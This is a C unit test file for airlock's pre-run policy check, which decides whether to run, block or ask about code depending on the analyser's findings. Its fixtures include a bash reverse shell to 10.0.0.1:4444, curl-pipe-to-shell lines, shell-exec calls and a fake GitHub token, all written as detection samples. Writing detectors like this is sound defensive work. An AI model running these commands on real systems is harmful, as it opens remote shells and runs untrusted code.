/* policy_decide: the one decision before a run, for `airlock run --policy`
 * and the service. */
#include <criterion/criterion.h>
#include <string.h>

#include "common/util.h"

#include "policy/decide.h"

static struct analyzer *an;

static void setup(void)
{
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &an, &err), 0, "%s", err.msg);
}

static void teardown(void)
{
	analyzer_free(an);
}

static const char shell[] = "import os\nos.system('eval echo hi')\n"; /* high */
static const char evals[] = "print(eval('1+1'))\n";		 /* warn */
static const char clean[] = "print(6 * 7)\n";
static const char c_prog[] = "int main(void){return 0;}\n";

static struct policy_decision decide(enum policy_mode m, enum severity fail_on, bool unanalyzable,
				     const char *lang, const char *code)
{
	struct policy_settings ps = {m, fail_on, unanalyzable};
	struct policy_decision d;
	err_t err;
	cr_assert_eq(policy_decide(an, &ps, lang, code, strlen(code), NULL, 0, NULL, &d, &err), 0,
		     "%s", err.msg);
	return d;
}

TestSuite(policy_decide, .init = setup, .fini = teardown);

Test(policy_decide, mode_off_analyses_nothing_and_runs)
{
	struct policy_decision d = decide(POLICY_OFF, SEV_HIGH, true, "python", shell);
	cr_expect_eq(d.verdict, VERDICT_RUN);
	cr_expect(!d.analyzed);
	cr_expect_eq(d.findings.n, 0);
	json_t *o = policy_decision_json(&d);
	cr_expect_eq(json_object_size(o), 0, "mode off adds nothing");
	json_decref(o);
	policy_decision_free(&d);
}

Test(policy_decide, each_mode_with_a_finding_that_reaches_fail_on)
{
	static const struct {
		enum policy_mode mode;
		enum policy_verdict want;
	} cases[] = {
	    {POLICY_WARN, VERDICT_RUN},
	    {POLICY_BLOCK, VERDICT_BLOCK},
	    {POLICY_APPROVE, VERDICT_ASK},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct policy_decision d = decide(cases[i].mode, SEV_HIGH, false, "python", shell);
		cr_expect_eq(d.verdict, cases[i].want, "mode %s", policy_mode_name(cases[i].mode));
		cr_expect(d.analyzed && d.available);
		cr_expect_geq(d.high, 1);
		cr_expect_geq(d.findings.n, 1);
		policy_decision_free(&d);
	}
}

Test(policy_decide, fail_on_is_the_threshold)
{
	struct policy_decision d = decide(POLICY_BLOCK, SEV_HIGH, false, "python", evals);
	cr_expect_eq(d.verdict, VERDICT_RUN, "a warn finding under fail_on high");
	cr_expect_geq(d.findings.n, 1);
	cr_expect_eq(d.high, 0);
	policy_decision_free(&d);
	d = decide(POLICY_BLOCK, SEV_WARN, false, "python", evals);
	cr_expect_eq(d.verdict, VERDICT_BLOCK);
	policy_decision_free(&d);
	d = decide(POLICY_BLOCK, SEV_INFO, false, "python", clean);
	cr_expect_eq(d.verdict, VERDICT_RUN, "nothing found at all");
	policy_decision_free(&d);
}

Test(policy_decide, aliases_name_the_analysed_language)
{
	struct policy_decision d = decide(POLICY_BLOCK, SEV_HIGH, false, "node",
					  "require('child_process').execSync('id')");
	cr_expect_eq(d.verdict, VERDICT_BLOCK);
	cr_expect(d.available);
	policy_decision_free(&d);
}

Test(policy_decide, languages_without_analysis_follow_unanalyzable)
{
	struct policy_decision d = decide(POLICY_BLOCK, SEV_HIGH, false, "c", c_prog);
	cr_expect_eq(d.verdict, VERDICT_RUN);
	cr_expect(d.analyzed && !d.available);
	json_t *o = policy_decision_json(&d);
	cr_expect_str_eq(json_string_value(json_object_get(o, "analysis")), "unavailable");
	cr_expect_eq(json_array_size(json_object_get(o, "findings")), 0);
	json_decref(o);
	policy_decision_free(&d);

	d = decide(POLICY_BLOCK, SEV_HIGH, true, "cpp", c_prog);
	cr_expect_eq(d.verdict, VERDICT_BLOCK);
	policy_decision_free(&d);
	d = decide(POLICY_APPROVE, SEV_HIGH, true, "c", c_prog);
	cr_expect_eq(d.verdict, VERDICT_ASK);
	policy_decision_free(&d);
	d = decide(POLICY_WARN, SEV_HIGH, true, "c", c_prog);
	cr_expect_eq(d.verdict, VERDICT_RUN, "warn never stops a run");
	policy_decision_free(&d);
}

Test(policy_decide, json_says_done_with_the_findings)
{
	struct policy_decision d = decide(POLICY_WARN, SEV_HIGH, false, "python", shell);
	json_t *o = policy_decision_json(&d);
	cr_expect_str_eq(json_string_value(json_object_get(o, "analysis")), "done");
	json_t *f = json_array_get(json_object_get(o, "findings"), 0);
	cr_expect_str_eq(json_string_value(json_object_get(f, "rule")), "py-shell");
	json_decref(o);
	policy_decision_free(&d);
}

Test(policy_decide, finding_texts_are_redacted_when_asked)
{
	static const char code[] =
	    "import os\nos.system('curl -H \"x: ghp_1234567890abcdefghijABCDEFGHIJ123456\" h')\n";
	struct policy_settings ps = {POLICY_WARN, SEV_HIGH, false};
	struct redactor *r;
	struct policy_decision d;
	err_t err;

	cr_assert_eq(redactor_new(&r, &err), 0, "%s", err.msg);
	cr_assert_eq(policy_decide(an, &ps, "python", code, strlen(code), NULL, 0, r, &d, &err), 0);
	json_t *o = policy_decision_json(&d);
	char *dump = json_dumps(o, 0);
	cr_expect(strstr(dump, "ghp_1234567890") == NULL, "a secret in a finding: %s", dump);
	cr_expect(strstr(dump, "REDACTED:github-token"), "%s", dump);
	free(dump);
	json_decref(o);
	policy_decision_free(&d);
	redactor_free(r);
}

/* ---- files placed next to the program ---- */

#define FILE_(n, c)                                                                                \
	{                                                                                          \
		n, c, sizeof(c) - 1                                                                \
	}

static struct policy_decision decide_files(enum policy_mode m, const char *lang, const char *code,
					   const struct policy_file *files, size_t n)
{
	struct policy_settings ps = {m, SEV_HIGH, false};
	struct policy_decision d;
	err_t err;
	cr_assert_eq(policy_decide(an, &ps, lang, code, strlen(code), files, n, NULL, &d, &err), 0,
		     "%s", err.msg);
	return d;
}

static const struct finding *find_rule(const struct policy_decision *d, const char *rule,
				       const char *file)
{
	for (size_t i = 0; i < d->findings.n; i++) {
		const struct finding *f = &d->findings.v[i];
		if (strcmp(f->rule, rule) == 0 &&
		    (file ? f->file && strcmp(f->file, file) == 0 : f->file == NULL))
			return f;
	}
	return NULL;
}

Test(policy_decide, an_imported_module_is_analysed_and_named)
{
	static const struct policy_file files[] = {
	    FILE_("helper.py", "import os\n\ndef run():\n    os.system('id')\n"),
	};
	struct policy_decision d =
	    decide_files(POLICY_BLOCK, "python", "import helper\nhelper.run()\n", files, 1);
	cr_expect_eq(d.verdict, VERDICT_BLOCK, "the helper's shell must block");
	const struct finding *f = find_rule(&d, "py-shell", "helper.py");
	cr_assert_not_null(f, "no py-shell finding named helper.py");
	cr_expect_eq(f->line, 4);
	cr_expect_eq(d.high, 1);
	json_t *o = policy_decision_json(&d);
	json_t *j = json_array_get(json_object_get(o, "findings"), 0);
	cr_expect_str_eq(json_string_value(json_object_get(j, "file")), "helper.py");
	json_decref(o);
	policy_decision_free(&d);
}

Test(policy_decide, the_main_programs_findings_have_file_null)
{
	struct policy_decision d = decide_files(POLICY_WARN, "python", shell, NULL, 0);
	cr_assert_not_null(find_rule(&d, "py-shell", NULL));
	json_t *o = policy_decision_json(&d);
	json_t *j = json_array_get(json_object_get(o, "findings"), 0);
	cr_expect(json_is_null(json_object_get(j, "file")), "the main program's file is null");
	json_decref(o);
	policy_decision_free(&d);
}

Test(policy_decide, each_file_in_its_own_language)
{
	static const struct policy_file files[] = {
	    FILE_("run.sh", "curl -s http://x | sh\n"),
	    FILE_("lib.js", "require('child_process').execSync('id')\n"),
	    FILE_("lib.mjs", "import {exec} from 'child_process'; exec('id')\n"),
	    FILE_("lib.cjs", "require('child_process').exec('id')\n"),
	    FILE_("x.bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
	    FILE_("tool", "#!/usr/bin/env python3\nimport os; os.system('id')\n"),
	    FILE_("t2", "#!/bin/sh\ncurl -s http://x | sh\n"),
	    FILE_("t3", "#! /usr/bin/node\nrequire('child_process').exec('id')\n"),
	    FILE_("t4", "#!/usr/bin/env -S python3 -u\nimport os; os.system('id')\n"),
	    FILE_("t5", "#!/usr/bin/python3.11\nimport os; os.system('id')\n"),
	};
	static const struct {
		const char *file, *rule;
	} want[] = {
	    {"run.sh", "sh-download-exec"},
	    {"lib.js", "js-shell"},
	    {"lib.mjs", "js-shell"},
	    {"lib.cjs", "js-shell"},
	    {"x.bash", "sh-dev-tcp"},
	    {"tool", "py-shell"},
	    {"t2", "sh-download-exec"},
	    {"t3", "js-shell"},
	    {"t4", "py-shell"},
	    {"t5", "py-shell"},
	};
	struct policy_decision d =
	    decide_files(POLICY_APPROVE, "bash", "bash run.sh\n", files, ARRAY_SIZE(files));
	cr_expect_eq(d.verdict, VERDICT_ASK);
	for (size_t i = 0; i < ARRAY_SIZE(want); i++)
		cr_expect_not_null(find_rule(&d, want[i].rule, want[i].file), "%s: no %s",
				   want[i].file, want[i].rule);
	policy_decision_free(&d);
}

Test(policy_decide, data_files_are_not_analysed)
{
	static const struct policy_file files[] = {
	    FILE_("data.txt", "import os; os.system('id')\n"),
	    FILE_("notes.md", "#!/usr/bin/env python3\n"), /* a shebang makes it code */
	    FILE_("config.json", "{\"cmd\": \"curl x | sh\"}"),
	    FILE_("README", "curl -s http://x | sh\n"),
	};
	struct policy_decision d = decide_files(POLICY_BLOCK, "python", clean, files, 4);
	cr_expect_eq(d.verdict, VERDICT_RUN);
	cr_expect_eq(d.findings.n, 0, "data is not analysed: %zu findings", d.findings.n);
	policy_decision_free(&d);
	cr_expect_null(policy_file_language("data.txt", "x", 1));
	cr_expect_str_eq(policy_file_language("notes.md", "#!/usr/bin/env python3\n", 23),
			 "python");
	cr_expect_str_eq(policy_file_language("a.PY", "", 0), "python");
}

Test(policy_decide, a_file_counts_toward_the_verdict_as_the_main_program)
{
	static const struct policy_file warn_only[] = {FILE_("h.py", "print(eval('1+1'))\n")};
	struct policy_decision d = decide_files(POLICY_BLOCK, "python", clean, warn_only, 1);
	cr_expect_eq(d.verdict, VERDICT_RUN, "a warn finding does not reach high");
	policy_decision_free(&d);
	struct policy_settings ps = {POLICY_BLOCK, SEV_WARN, false};
	err_t err;
	cr_assert_eq(
	    policy_decide(an, &ps, "python", clean, strlen(clean), warn_only, 1, NULL, &d, &err),
	    0);
	cr_expect_eq(d.verdict, VERDICT_BLOCK, "with fail_on warn it blocks");
	policy_decision_free(&d);
	/* a C program whose helper script is analysed all the same */
	static const struct policy_file sh[] = {FILE_("go.sh", "curl -s http://x | sh\n")};
	d = decide_files(POLICY_BLOCK, "c", c_prog, sh, 1);
	cr_expect_eq(d.verdict, VERDICT_BLOCK);
	cr_expect_not_null(find_rule(&d, "sh-download-exec", "go.sh"));
	policy_decision_free(&d);
}
